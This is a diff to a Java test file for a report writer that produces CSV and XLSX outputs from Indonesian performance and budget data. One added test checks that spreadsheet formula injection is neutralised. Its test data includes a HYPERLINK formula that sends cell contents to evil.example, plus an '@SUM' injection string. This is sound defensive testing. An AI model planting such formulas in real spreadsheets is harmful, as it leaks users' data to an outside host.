@@ -27,6 +27,9 @@ import java.math.BigDecimal;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
+import org.apache.poi.ss.usermodel.Cell;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
 import java.time.OffsetDateTime;
 import java.time.ZoneOffset;
 import java.util.ArrayList;
@@ -113,8 +116,8 @@ class ReportWriterTest {
                 List.of(),
                 List.of(new CapaianResult(IKM, Arah.NAIK, Optional.of(new BigDecimal("94.52")), "Sangat Tinggi"),
                         new CapaianResult(SAKIP, Arah.NAIK, Optional.of(new BigDecimal("95.84")), "Sangat Tinggi")),
-                List.of(new BudgetResult(PEMBERDAYAAN, BudgetLevel.PROGRAM, Optional.of(new BigDecimal("98.95"))),
-                        new BudgetResult(TOTAL, BudgetLevel.TOTAL, Optional.of(new BigDecimal("91.20")))),
+                List.of(new BudgetResult(PEMBERDAYAAN, BudgetLevel.PROGRAM, Optional.empty(), Optional.of(new BigDecimal("98.95"))),
+                        new BudgetResult(TOTAL, BudgetLevel.TOTAL, Optional.empty(), Optional.of(new BigDecimal("91.20")))),
                 List.of(CAPAIAN_MISMATCH, ABSORPTION, AMBIGUOUS_ON_BUDGET, UNREADABLE));
     }
 
@@ -136,7 +139,8 @@ class ReportWriterTest {
     void writesExactlyTheOutputFilesAndNoTemporaryOne() throws IOException {
         writer.write(run(), out, GENERATED);
 
-        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "capaian.csv", "tables.csv");
+        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "anomalies.xlsx",
+                "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "tables.csv");
     }
 
     @Test
@@ -148,7 +152,7 @@ class ReportWriterTest {
                 Severity.ERROR, Message.of("severity.error"), "@SUM(A1:A9)", "");
         writer.write(new RunResult(List.of(), List.of(),
                 List.of(new CapaianResult(injected, Arah.NAIK, Optional.empty(), "")),
-                List.of(new BudgetResult(dashed, BudgetLevel.PROGRAM, Optional.empty())), List.of(atSign)), out,
+                List.of(new BudgetResult(dashed, BudgetLevel.PROGRAM, Optional.empty(), Optional.empty())), List.of(atSign)), out,
                 GENERATED);
 
         assertThat(csv("capaian.csv").get(1).get(CONTRACT_CAPAIAN.indexOf("indikator")))
@@ -156,6 +160,34 @@ class ReportWriterTest {
         assertThat(csv("anggaran.csv").get(1).get(CONTRACT_ANGGARAN.indexOf("uraian"))).isEqualTo("'- Belanja Pegawai");
         assertThat(csv("anggaran.csv").get(1).get(CONTRACT_ANGGARAN.indexOf("realisasi"))).isEqualTo("-5000");
         assertThat(csv("anomalies.csv").get(1).get(FINDING_FIELDS.indexOf("value"))).isEqualTo("'@SUM(A1:A9)");
+    }
+
+    @Test
+    void textThatCouldRunAsAFormulaIsAQuotePrefixedTextCellInEveryWorkbook() throws Exception {
+        String hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")";
+        CapaianRecord injected = indicator(7, hyperlink, "", "84", "79,4", "94,05%");
+        Finding atSign = new Finding(new Location(XLSX, SHEET, 7, 5), Category.UNPARSEABLE_VALUE, "value.parse",
+                Severity.ERROR, Message.of("severity.error"), "@SUM(A1:A9)", "");
+        writer.write(new RunResult(List.of(), List.of(),
+                List.of(new CapaianResult(injected, Arah.NAIK, Optional.empty(), "")), List.of(), List.of(atSign)),
+                out, GENERATED);
+
+        try (XSSFWorkbook summary = new XSSFWorkbook(out.resolve("capaian-summary.xlsx").toFile());
+                XSSFWorkbook consolidated = new XSSFWorkbook(out.resolve("consolidated.xlsx").toFile());
+                XSSFWorkbook anomalies = new XSSFWorkbook(out.resolve("anomalies.xlsx").toFile())) {
+            for (Cell indikator : List.of(summary.getSheet("Capaian").getRow(1).getCell(6),
+                    consolidated.getSheet("Capaian (gabungan)").getRow(1).getCell(6))) {
+                assertThat(indikator.getCellType()).isEqualTo(CellType.STRING);
+                assertThat(indikator.getStringCellValue()).isEqualTo(hyperlink);
+                assertThat(indikator.getCellStyle().getQuotePrefixed()).isTrue();
+            }
+            Cell value = anomalies.getSheet("Temuan").getRow(1).getCell(7);
+            assertThat(value.getCellType()).isEqualTo(CellType.STRING);
+            assertThat(value.getStringCellValue()).isEqualTo("@SUM(A1:A9)");
+            assertThat(value.getCellStyle().getQuotePrefixed()).isTrue();
+            Cell file = anomalies.getSheet("Temuan").getRow(1).getCell(0);
+            assertThat(file.getCellStyle().getQuotePrefixed()).isFalse();
+        }
     }
 
     @Test
@@ -364,7 +396,8 @@ class ReportWriterTest {
         writer.write(new RunResult(List.of(), List.of(), List.of(), List.of(), List.of()), out, GENERATED);
 
         assertThat(csv("anomalies.csv")).hasSize(1);
-        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "capaian.csv", "tables.csv");
+        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "anomalies.xlsx",
+                "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "tables.csv");
     }
 
     private void writeEarlierOutputs() throws IOException {
@@ -377,7 +410,8 @@ class ReportWriterTest {
         for (String name : ReportWriter.OUTPUTS) {
             assertThat(out.resolve(name)).hasContent("earlier " + name);
         }
-        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "capaian.csv", "tables.csv");
+        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "anomalies.xlsx",
+                "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "tables.csv");
     }
 
     @Test
@@ -415,6 +449,7 @@ class ReportWriterTest {
             assertThat(out.resolve(name)).hasContent("earlier " + name);
         }
         assertThat(out.resolve("anggaran.csv/catatan.txt")).hasContent("punya pengguna");
-        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "capaian.csv", "tables.csv");
+        assertThat(folder()).containsExactly("anggaran.csv", "anomalies.csv", "anomalies.json", "anomalies.xlsx",
+                "capaian-summary.xlsx", "capaian.csv", "consolidated.xlsx", "tables.csv");
     }
 }
